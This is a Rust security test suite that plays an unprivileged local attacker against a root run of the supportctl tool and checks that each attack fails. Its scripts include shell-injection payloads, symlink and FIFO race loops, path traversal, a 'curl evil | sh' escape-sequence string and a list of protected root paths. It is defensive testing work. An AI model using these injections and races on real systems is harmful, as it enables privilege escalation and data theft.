//! Attacks by an unprivileged local user on a root run of supportctl, one
//! test per class of the threat model (README "Threat model").
//!
//! The attacker is a throwaway account (`supportctl-attacker`, made with
//! `useradd` on first use) acting through `setpriv`; the victim is this test
//! process, running supportctl as root. Without root (or without `useradd`
//! and `setpriv`) each test prints `NOT RUN` and passes, except under CI,
//! which runs as root and must run them all.

mod common;

use std::fs;
use std::os::unix::fs::{MetadataExt, PermissionsExt};
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};
use std::sync::OnceLock;
use std::time::{Duration, Instant};

const ATTACKER: &str = "supportctl-attacker";

/// The attacking user: uid and gid.
#[derive(Clone, Copy)]
struct Attacker {
    uid: u32,
    gid: u32,
}

fn id_of(flag: &str) -> Option<u32> {
    let out = Command::new("id").args([flag, ATTACKER]).output().ok()?;
    String::from_utf8_lossy(&out.stdout).trim().parse().ok()
}

/// The attacker, created once; `None` (NOT RUN) where this cannot be done.
fn attacker() -> Option<Attacker> {
    static ONCE: OnceLock<Option<Attacker>> = OnceLock::new();
    let found = *ONCE.get_or_init(|| {
        if !common::is_root() || !Path::new("/usr/bin/setpriv").exists() {
            return None;
        }
        if id_of("-u").is_none() {
            let _ = Command::new("useradd")
                .args(["--no-create-home", "--shell", "/bin/sh", ATTACKER])
                .status();
        }
        Some(Attacker {
            uid: id_of("-u")?,
            gid: id_of("-g")?,
        })
    });
    if found.is_none() {
        assert!(
            std::env::var_os("CI").is_none(),
            "CI runs as root with setpriv and useradd: the attack tests must run there"
        );
        eprintln!("NOT RUN: needs root, setpriv and useradd to act as another user");
    }
    found
}

impl Attacker {
    fn command(&self, script: &str) -> Command {
        let mut c = Command::new("/usr/bin/setpriv");
        c.args([
            &format!("--reuid={}", self.uid),
            &format!("--regid={}", self.gid),
            "--clear-groups",
            "sh",
            "-c",
            script,
        ])
        .stdin(Stdio::null());
        c
    }

    /// Runs a shell script as the attacker; panics when it fails.
    fn sh(&self, script: &str) {
        let out = self.command(script).output().unwrap();
        assert!(
            out.status.success(),
            "attacker script failed: {script}\n{}",
            String::from_utf8_lossy(&out.stderr)
        );
    }

    /// A folder the attacker owns, inside a scratch folder others can enter.
    fn folder(&self, scratch: &Path, name: &str) -> PathBuf {
        let dir = scratch.join(name);
        fs::create_dir_all(&dir).unwrap();
        std::os::unix::fs::chown(&dir, Some(self.uid), Some(self.gid)).unwrap();
        fs::set_permissions(&dir, fs::Permissions::from_mode(0o755)).unwrap();
        dir
    }
}

/// A scratch folder (root-owned, 0755 so the attacker can reach inside).
fn scratch() -> tempfile::TempDir {
    let t = tempfile::tempdir().unwrap();
    fs::set_permissions(t.path(), fs::Permissions::from_mode(0o755)).unwrap();
    t
}

/// Runs supportctl as root (this process) in `cwd`, with a clean search path.
fn victim(cwd: &Path, args: &[&str]) -> Output {
    victim_env(cwd, args, &[])
}

fn victim_env(cwd: &Path, args: &[&str], env: &[(&str, &str)]) -> Output {
    let mut c = Command::new(env!("CARGO_BIN_EXE_supportctl"));
    c.current_dir(cwd)
        .args(args)
        .env("HOME", "/root")
        .env_remove("XDG_CONFIG_HOME")
        .env("SUPPORTCTL_PATH", "")
        .stdin(Stdio::null());
    for (k, v) in env {
        c.env(k, v);
    }
    c.output().unwrap()
}

fn text(o: &Output) -> String {
    format!(
        "status {:?}\n--- stdout\n{}\n--- stderr\n{}",
        o.status.code(),
        String::from_utf8_lossy(&o.stdout),
        String::from_utf8_lossy(&o.stderr)
    )
}

/// A playbook that, if root ever ran it, leaves `marker` behind.
fn planted_playbook(marker: &Path) -> String {
    format!(
        "[[step]]\nid = \"pwn\"\nkind = \"command\"\ncommand = [\"touch\", \"{}\"]\n",
        marker.display()
    )
}

#[test]
fn a_bare_name_never_reads_a_file_in_the_current_folder() {
    let Some(a) = attacker() else { return };
    let s = scratch();
    let work = a.folder(s.path(), "work");
    let marker = s.path().join("pwned");
    a.sh(&format!(
        "printf '%s' '{}' > {}/disk-full",
        planted_playbook(&marker),
        work.display()
    ));
    let out = victim(&work, &["show", "disk-full"]);
    assert!(out.status.success(), "{}", text(&out));
    let shown = String::from_utf8_lossy(&out.stdout);
    assert!(shown.contains("source: shipped:disk-full"), "{shown}");
    let out = victim(
        &work,
        &["run", "disk-full", "--dry-run", "--format", "json"],
    );
    assert!(!marker.exists(), "{}", text(&out));
}

#[test]
fn an_elevated_run_ignores_playbook_folders_other_users_own_or_can_write() {
    let Some(a) = attacker() else { return };
    let s = scratch();
    let marker = s.path().join("pwned");
    let evil = a.folder(s.path(), "evil");
    a.sh(&format!(
        "printf '%s' '{}' > {}/fix-it.toml && mkdir -p {}/.config/supportctl/playbooks && cp {}/fix-it.toml {}/.config/supportctl/playbooks/",
        planted_playbook(&marker),
        evil.display(),
        evil.display(),
        evil.display(),
        evil.display()
    ));
    // SUPPORTCTL_PATH naming the user's folder, and an inherited HOME and
    // XDG_CONFIG_HOME (`sudo -E`), and a relative entry.
    let evil_s = evil.display().to_string();
    let xdg = format!("{evil_s}/.config");
    for env in [
        vec![("SUPPORTCTL_PATH", evil_s.as_str())],
        vec![("HOME", evil_s.as_str())],
        vec![("XDG_CONFIG_HOME", xdg.as_str())],
        vec![("SUPPORTCTL_PATH", "evil")],
    ] {
        let out = victim_env(s.path(), &["run", "fix-it"], &env);
        assert_eq!(out.status.code(), Some(2), "{env:?}: {}", text(&out));
        assert!(!marker.exists(), "{env:?}: {}", text(&out));
        let stderr = String::from_utf8_lossy(&out.stderr);
        if env[0].1 != "evil" {
            assert!(
                stderr.contains("ignoring") && stderr.contains("not root"),
                "{env:?}: {stderr}"
            );
        }
    }
    // A path argument to a file the user can change is refused too.
    let out = victim(s.path(), &["run", &format!("{evil_s}/fix-it.toml")]);
    assert_eq!(out.status.code(), Some(2), "{}", text(&out));
    assert!(!marker.exists());
    // A root-owned folder that others can write is no better.
    let shared = s.path().join("shared");
    fs::create_dir(&shared).unwrap();
    fs::write(shared.join("fix-it.toml"), planted_playbook(&marker)).unwrap();
    fs::set_permissions(&shared, fs::Permissions::from_mode(0o777)).unwrap();
    let out = victim_env(
        s.path(),
        &["run", "fix-it"],
        &[("SUPPORTCTL_PATH", shared.to_str().unwrap())],
    );
    assert_eq!(out.status.code(), Some(2), "{}", text(&out));
    assert!(String::from_utf8_lossy(&out.stderr).contains("can be written by other users"));
    assert!(!marker.exists());
}

#[test]
fn bundles_never_collect_what_a_user_swaps_in_while_collecting() {
    let Some(a) = attacker() else { return };
    let s = scratch();
    let logs = a.folder(s.path(), "logs");
    let secret = s.path().join("root-only.txt");
    fs::write(&secret, "ROOT-ONLY-SECRET-CONTENT\n").unwrap();
    fs::set_permissions(&secret, fs::Permissions::from_mode(0o600)).unwrap();
    // Many files, each swapped again and again for a link to root's file
    // and for a FIFO, while root collects.
    a.sh(&format!(
        "cd {} && for i in $(seq 1 40); do echo plain log line $i > app$i.log; done",
        logs.display()
    ));
    let swapper = a
        .command(&format!(
            "cd {} && end=$(( $(date +%s) + 8 )); while [ $(date +%s) -lt $end ]; do \
             for i in $(seq 1 40); do ln -sf {} t$i && mv -f t$i app$i.log; \
             echo plain > p$i && mv -f p$i app$i.log; \
             rm -f f$i; mkfifo f$i && mv -f f$i app$i.log; \
             echo plain > p$i && mv -f p$i app$i.log; done; done",
            logs.display(),
            secret.display()
        ))
        .spawn()
        .unwrap();
    let out_dir = s.path().join("out");
    let playbook = s.path().join("b.toml");
    fs::write(
        &playbook,
        format!(
            "[[step]]\nid = \"b\"\nkind = \"bundle\"\noutput = \"{}/b-{{{{ datetime }}}}-{{{{ n }}}}.zip\"\n[vars]\nn = \"0\"\n[[step.files]]\npaths = [\"{}\"]\n",
            out_dir.display(),
            logs.display()
        ),
    )
    .unwrap();
    let started = Instant::now();
    let mut runs = 0;
    while started.elapsed() < Duration::from_secs(6) {
        runs += 1;
        let out = victim(
            s.path(),
            &[
                "run",
                playbook.to_str().unwrap(),
                "--var",
                &format!("n={runs}"),
                "--format",
                "json",
            ],
        );
        assert!(matches!(out.status.code(), Some(0 | 1)), "{}", text(&out));
    }
    let mut swapper = swapper;
    let _ = swapper.wait();
    let mut zips = 0;
    for entry in fs::read_dir(&out_dir).unwrap() {
        let path = entry.unwrap().path();
        if path.extension().is_none_or(|x| x != "zip") {
            continue;
        }
        let bytes = fs::read(path).unwrap();
        zips += 1;
        let mut archive = zip::ZipArchive::new(std::io::Cursor::new(bytes)).unwrap();
        for i in 0..archive.len() {
            let mut f = archive.by_index(i).unwrap();
            let mut body = String::new();
            let _ = std::io::Read::read_to_string(&mut f, &mut body);
            assert!(
                !body.contains("ROOT-ONLY-SECRET-CONTENT"),
                "{:?} leaked root's file",
                f.name()
            );
        }
    }
    assert!(zips >= 2, "only {zips} bundles in {runs} runs");
}

#[test]
fn report_files_never_follow_planted_links_and_are_owner_only() {
    let Some(a) = attacker() else { return };
    let s = scratch();
    // A shared sticky folder, like /tmp: anyone may create entries in it.
    let dir = s.path().join("reports");
    fs::create_dir(&dir).unwrap();
    fs::set_permissions(&dir, fs::Permissions::from_mode(0o1777)).unwrap();
    let precious = s.path().join("precious");
    fs::write(&precious, "root's data\n").unwrap();
    // Links for the coming process ids and any guessable names.
    a.sh(&format!(
        "cd {} && p=$$; for i in $(seq 0 400); do ln -s {} .report.json.$((p+i)).tmp; done; ln -s {} report.json.tmp",
        dir.display(),
        precious.display(),
        precious.display()
    ));
    fs::write(
        s.path().join("p.toml"),
        "[[step]]\nkind = \"disk\"\npath = \"/\"\n",
    )
    .unwrap();
    let report = dir.join("report.json");
    let out = victim(
        s.path(),
        &[
            "run",
            "p.toml",
            "--report",
            &format!("json={}", report.display()),
        ],
    );
    assert!(matches!(out.status.code(), Some(0 | 1)), "{}", text(&out));
    assert_eq!(fs::read_to_string(&precious).unwrap(), "root's data\n");
    let meta = fs::symlink_metadata(&report).unwrap();
    assert!(meta.is_file());
    assert_eq!(meta.mode() & 0o777, 0o600, "reports describe the host");
}

/// A cleanup playbook for `dir` (templated from `--var dir=...`).
fn cleanup_playbook(extra: &str) -> String {
    format!(
        "[vars]\ndir = \"/nonexistent\"\n[[step]]\nid = \"c\"\nkind = \"cleanup\"\npaths = [\"{{{{ dir }}}}\"]\n{extra}\n"
    )
}

#[test]
fn cleanup_refuses_roots_reached_through_a_users_link_or_outside_temp() {
    let Some(a) = attacker() else { return };
    let s = scratch();
    let home = a.folder(s.path(), "home");
    // Root's files somewhere a user may not touch.
    let guarded = s.path().join("guarded");
    fs::create_dir(&guarded).unwrap();
    fs::write(guarded.join("keep.txt"), "root's").unwrap();
    a.sh(&format!(
        "ln -s {} {}/cache",
        guarded.display(),
        home.display()
    ));
    fs::write(s.path().join("c.toml"), cleanup_playbook("")).unwrap();
    // Through a link the user owns (the path's last part is a folder).
    let through = format!("dir={}/cache/.", home.display());
    let out = victim(s.path(), &["run", "c.toml", "--var", &through]);
    assert_ne!(out.status.code(), Some(0), "{}", text(&out));
    let through = format!("dir={}/cache", home.display());
    let out = victim(s.path(), &["run", "c.toml", "--var", &through]);
    assert_ne!(out.status.code(), Some(0), "{}", text(&out));
    assert!(guarded.join("keep.txt").exists());
    // Roots a ticket might name: refused whatever the playbook says.
    for bad in [
        "/root/.ssh",
        "/var/www",
        "/var/mail",
        "/var/spool/cron",
        "/var/backups",
        "/opt/app",
        "/srv/ftp",
        "/etc",
    ] {
        let out = victim(
            s.path(),
            &["run", "c.toml", "--dry-run", "--var", &format!("dir={bad}")],
        );
        assert_eq!(out.status.code(), Some(2), "{bad}: {}", text(&out));
    }
    // A folder outside temporary and cache folders needs the playbook's opt-in.
    let out = victim(
        s.path(),
        &["run", "c.toml", "--dry-run", "--var", "dir=/mnt/data/old"],
    );
    assert_eq!(out.status.code(), Some(2), "{}", text(&out));
    assert!(String::from_utf8_lossy(&out.stderr).contains("allow_outside_temp"));
}

#[test]
fn cleanup_protects_every_accounts_home_wherever_it_is() {
    let Some(_) = attacker() else { return };
    let s = scratch();
    fs::write(
        s.path().join("c.toml"),
        cleanup_playbook("allow_outside_temp = true"),
    )
    .unwrap();
    // An account whose home is outside /home. Its own throwaway account:
    // `usermod` on the attacker fails while another test's attacker
    // process runs, and a test that silently does not run proves nothing.
    let home = s.path().join("srv-home");
    fs::create_dir(&home).unwrap();
    const OWNER: &str = "supportctl-srvhome";
    let _ = Command::new("userdel").arg(OWNER).status();
    let made = Command::new("useradd")
        .args([
            "--no-create-home",
            "--home-dir",
            home.to_str().unwrap(),
            OWNER,
        ])
        .status()
        .is_ok_and(|st| st.success());
    assert!(made, "useradd {OWNER} failed");
    fs::write(home.join("notes.txt"), "mine").unwrap();
    let out = victim(
        s.path(),
        &["run", "c.toml", "--var", &format!("dir={}", home.display())],
    );
    let _ = Command::new("userdel").arg(OWNER).status();
    assert_eq!(out.status.code(), Some(2), "{}", text(&out));
    assert!(String::from_utf8_lossy(&out.stderr).contains("home directory"));
    assert!(home.join("notes.txt").exists());
}

#[test]
fn trash_mode_stays_out_of_folders_other_users_can_write() {
    let Some(a) = attacker() else { return };
    let s = scratch();
    let shared = a.folder(s.path(), "shared");
    a.sh(&format!(
        "echo x > {}/old.tmp && touch -d '30 days ago' {}/old.tmp",
        shared.display(),
        shared.display()
    ));
    fs::write(
        s.path().join("c.toml"),
        cleanup_playbook("mode = \"trash\"\nallow_outside_temp = true"),
    )
    .unwrap();
    let out = victim(
        s.path(),
        &[
            "run",
            "c.toml",
            "--var",
            &format!("dir={}", shared.display()),
        ],
    );
    assert_ne!(out.status.code(), Some(0), "{}", text(&out));
    assert!(
        String::from_utf8_lossy(&out.stdout).contains("other users can write"),
        "{}",
        text(&out)
    );
    assert!(shared.join("old.tmp").exists());
}

#[test]
fn ticket_text_never_runs_as_code_nor_moves_files() {
    let Some(_) = attacker() else { return };
    let s = scratch();
    let marker = s.path().join("pwned");
    fs::write(
        s.path().join("p.toml"),
        "[vars]\nticket = \"none\"\n[[step]]\nid = \"note\"\nkind = \"command\"\nshell = true\n\
         command = \"\"\"echo ticket {{ ticket }} and '{{ ticket }}' and \\\"{{ ticket }}\\\"\n\
         echo \\\"$(echo {{ ticket }})\\\" `echo {{ ticket }}`\ncat <<EOF\n{{ ticket }}\nEOF\n\
         cat <<'EOF'\n{{ ticket }}\nEOF\n# the user's note\necho {{ ticket }}\"\"\"\n",
    )
    .unwrap();
    let m = marker.display();
    for payload in [
        format!("x'; touch {m}; echo '"),
        format!("x\"; touch {m}; echo \""),
        format!("$(touch {m})"),
        format!("`touch {m}`"),
        format!("x; touch {m}"),
        format!("x\ntouch {m}"),
        format!("x\nEOF\ntouch {m}\ncat <<EOF"),
        format!("a; touch {m}; `touch {m}`"),
    ] {
        for dry in [true, false] {
            let mut args = vec!["run", "p.toml", "--format", "json", "--var"];
            let var = format!("ticket={payload}");
            args.push(&var);
            if dry {
                args.push("--dry-run");
            }
            let out = victim(s.path(), &args);
            assert!(!marker.exists(), "{payload:?} ran: {}", text(&out));
        }
    }
    // Path parts: a ticket number cannot move a bundle out of its folder.
    fs::write(
        s.path().join("b.toml"),
        format!(
            "[vars]\nticket = \"none\"\n[[step]]\nkind = \"bundle\"\noutput = \"{}/out/support-{{{{ ticket }}}}.zip\"\n",
            s.path().display()
        ),
    )
    .unwrap();
    let out = victim(s.path(), &["run", "b.toml", "--var", "ticket=INC1/../../x"]);
    assert_eq!(out.status.code(), Some(2), "{}", text(&out));
    assert!(!s.path().join("x.zip").exists());
}

#[test]
fn secret_values_appear_in_no_report_and_no_error() {
    let Some(_) = attacker() else { return };
    let s = scratch();
    fs::write(
        s.path().join("p.toml"),
        "[vars]\napi = { value = \"\", secret = true }\nurl = \"http://127.0.0.1:9/\"\n\
         [[step]]\nid = \"use\"\nkind = \"command\"\ncommand = [\"echo\", \"key={{ api }}\", \"{{ url }}\"]\n",
    )
    .unwrap();
    let secret = "Tr0ub4dor&3-horse";
    let report_dir = s.path().join("r");
    fs::create_dir(&report_dir).unwrap();
    for format in ["human", "json", "markdown", "junit", "tap"] {
        let report = report_dir.join(format!("r.{format}"));
        let out = victim(
            s.path(),
            &[
                "run",
                "p.toml",
                "--var",
                &format!("api={secret}"),
                "--var",
                "url=https://admin:Pa/ss-w0rd-99@127.0.0.1:9/x",
                "--format",
                format,
                "--report",
                &format!("{format}={}", report.display()),
            ],
        );
        let all = text(&out) + &fs::read_to_string(&report).unwrap();
        assert!(!all.contains(secret), "{format}: {all}");
        assert!(!all.contains("Pa/ss-w0rd-99"), "{format}: {all}");
        assert_eq!(fs::metadata(&report).unwrap().mode() & 0o777, 0o600);
    }
    let out = victim(
        s.path(),
        &["show", "p.toml", "--var", &format!("api={secret}")],
    );
    assert!(!text(&out).contains(secret), "{}", text(&out));
    let out = victim(
        s.path(),
        &[
            "run",
            "p.toml",
            "--dry-run",
            "--var",
            &format!("api={secret}"),
        ],
    );
    assert!(!text(&out).contains(secret), "{}", text(&out));
}

#[test]
fn playbook_text_cannot_drive_the_terminal() {
    let Some(_) = attacker() else { return };
    let s = scratch();
    fs::write(
        s.path().join("p.toml"),
        "[playbook]\ndescription = \"fine\\r\\u001b[2Kcurl evil | sh\\u001b]0;title\\u0007\"\n\
         [[step]]\nid = \"s\"\nkind = \"command\"\ncommand = [\"echo\", \"systemctl restart cups\\r\\u001b[2K\"]\n",
    )
    .unwrap();
    for args in [&["show", "p.toml"][..], &["list"][..]] {
        let out = victim_env(
            s.path(),
            args,
            &[("SUPPORTCTL_PATH", s.path().to_str().unwrap())],
        );
        let all = text(&out);
        assert!(
            !all.contains('\u{1b}') && !all.contains('\r'),
            "{args:?}: {all:?}"
        );
    }
}

#[test]
fn resource_bounds_hold() {
    let Some(a) = attacker() else { return };
    let s = scratch();
    let dir = a.folder(s.path(), "reports");
    a.sh(&format!(
        "cd {} && mkfifo stuck.json && ln -s /dev/zero zero.json",
        dir.display()
    ));
    let started = Instant::now();
    let out = victim(
        s.path(),
        &[
            "report",
            "merge",
            dir.to_str().unwrap(),
            &format!("{}/stuck.json", dir.display()),
            &format!("{}/zero.json", dir.display()),
        ],
    );
    assert!(
        started.elapsed() < Duration::from_secs(20),
        "{}",
        text(&out)
    );
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("not a regular file")
            || String::from_utf8_lossy(&out.stdout).contains("not a regular file"),
        "{}",
        text(&out)
    );
    fs::write(
        s.path().join("big.toml"),
        "[[step]]\nkind = \"command\"\ncommand = [\"true\"]\nmax_output = \"8 GiB\"\n",
    )
    .unwrap();
    let out = victim(s.path(), &["check", "big.toml"]);
    assert_eq!(out.status.code(), Some(2), "{}", text(&out));
    let key = "k".repeat(2 << 20);
    fs::write(
        s.path().join("key.toml"),
        format!("[[step]]\nkind = \"disk\"\n{key} = 1\n"),
    )
    .unwrap();
    let out = victim(s.path(), &["check", "key.toml"]);
    assert_eq!(out.status.code(), Some(2));
    assert!(
        out.stderr.len() < 8192,
        "{} bytes of error",
        out.stderr.len()
    );
}

#[test]
fn dry_runs_leave_access_times_as_they_were() {
    let Some(a) = attacker() else { return };
    let s = scratch();
    let logs = a.folder(s.path(), "logs");
    a.sh(&format!(
        "cd {} && mkdir -p sub && echo line > app.log && echo x > sub/old.tmp && touch -a -d '2020-01-01' app.log sub/old.tmp sub . && touch -m -d '30 days ago' sub/old.tmp",
        logs.display()
    ));
    let atimes = || -> Vec<i64> {
        ["app.log", "sub/old.tmp", "sub", "."]
            .iter()
            .map(|p| fs::metadata(logs.join(p)).unwrap().atime())
            .collect()
    };
    let before = atimes();
    fs::write(
        s.path().join("b.toml"),
        format!(
            "[[step]]\nkind = \"bundle\"\noutput = \"{0}/out.zip\"\n[[step.files]]\npaths = [\"{1}\"]\n\
             [[step]]\nkind = \"cleanup\"\npaths = [\"{1}\"]\nolder_than = \"7d\"\n",
            s.path().display(),
            logs.display()
        ),
    )
    .unwrap();
    let out = victim(s.path(), &["run", "b.toml", "--dry-run"]);
    assert!(matches!(out.status.code(), Some(0 | 1)), "{}", text(&out));
    assert_eq!(atimes(), before, "{}", text(&out));
    assert!(!s.path().join("out.zip").exists());
}

#[test]
fn root_neither_reads_through_nor_writes_through_a_users_links() {
    let Some(a) = attacker() else { return };
    let s = scratch();
    let att = a.folder(s.path(), "att");
    let secret_dir = s.path().join("rootonly");
    fs::create_dir(&secret_dir).unwrap();
    fs::set_permissions(&secret_dir, fs::Permissions::from_mode(0o700)).unwrap();
    fs::write(secret_dir.join("app.log"), "ROOT-ONLY-SECRET-CONTENT\n").unwrap();
    let target = s.path().join("etc-like");
    fs::create_dir(&target).unwrap();
    fs::write(target.join("report.json"), "ORIGINAL").unwrap();
    a.sh(&format!(
        "cd {0} && ln -s {1}/app.log app.log && ln -s {1} logsdir && ln -s {1} mid && ln -s {2} reports && ln -s {2} bundles",
        att.display(),
        secret_dir.display(),
        target.display()
    ));
    let out_dir = s.path().join("out");
    let paths = [
        "app.log",
        "logsdir",
        "logsdir/",
        "mid/app.log",
        "mid/*.log",
        "logsdir/**",
    ];
    for (i, path) in paths.iter().enumerate() {
        fs::write(
            s.path().join("b.toml"),
            format!(
                "[[step]]\nkind = \"bundle\"\noutput = \"{}/b{i}.zip\"\n[[step.files]]\npaths = [\"{}/{path}\"]\n",
                out_dir.display(),
                att.display()
            ),
        )
        .unwrap();
        let out = victim(s.path(), &["run", "b.toml", "--format", "json"]);
        let bytes = fs::read(out_dir.join(format!("b{i}.zip"))).unwrap();
        let mut archive = zip::ZipArchive::new(std::io::Cursor::new(bytes)).unwrap();
        for n in 0..archive.len() {
            let mut f = archive.by_index(n).unwrap();
            let mut body = String::new();
            let _ = std::io::Read::read_to_string(&mut f, &mut body);
            assert!(
                !body.contains("ROOT-ONLY-SECRET-CONTENT"),
                "{path}: {}",
                text(&out)
            );
        }
    }
    // Reports and bundles are never written through the user's link.
    fs::write(
        s.path().join("p.toml"),
        "[[step]]\nkind = \"disk\"\npath = \"/\"\n",
    )
    .unwrap();
    let report = format!("json={}/reports/report.json", att.display());
    let out = victim(s.path(), &["run", "p.toml", "--report", &report]);
    assert_ne!(out.status.code(), Some(0), "{}", text(&out));
    assert_eq!(
        fs::read_to_string(target.join("report.json")).unwrap(),
        "ORIGINAL"
    );
    fs::write(
        s.path().join("o.toml"),
        format!(
            "[[step]]\nkind = \"bundle\"\noutput = \"{}/bundles/new/support.zip\"\n",
            att.display()
        ),
    )
    .unwrap();
    let out = victim(s.path(), &["run", "o.toml"]);
    assert_ne!(out.status.code(), Some(0), "{}", text(&out));
    assert!(!target.join("new").exists(), "{}", text(&out));
}

#[test]
fn a_playbook_path_in_a_users_folder_is_refused_whatever_it_is_at_the_moment() {
    let Some(a) = attacker() else { return };
    let s = scratch();
    let pb = a.folder(s.path(), "pb");
    let marker = s.path().join("pwned");
    a.sh(&format!(
        "printf '%s' '{}' > {1}/evil.toml && mkdir {1}/dir && ln -s {1}/dir {1}/race.toml",
        planted_playbook(&marker),
        pb.display()
    ));
    // The path is a link to a folder now (not a file); refused all the same.
    let out = victim(s.path(), &["run", &format!("{}/race.toml", pb.display())]);
    assert_eq!(out.status.code(), Some(2), "{}", text(&out));
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("running elevated"),
        "{}",
        text(&out)
    );
    let out = victim(s.path(), &["run", &format!("{}/evil.toml", pb.display())]);
    assert_eq!(out.status.code(), Some(2), "{}", text(&out));
    assert!(!marker.exists());
}
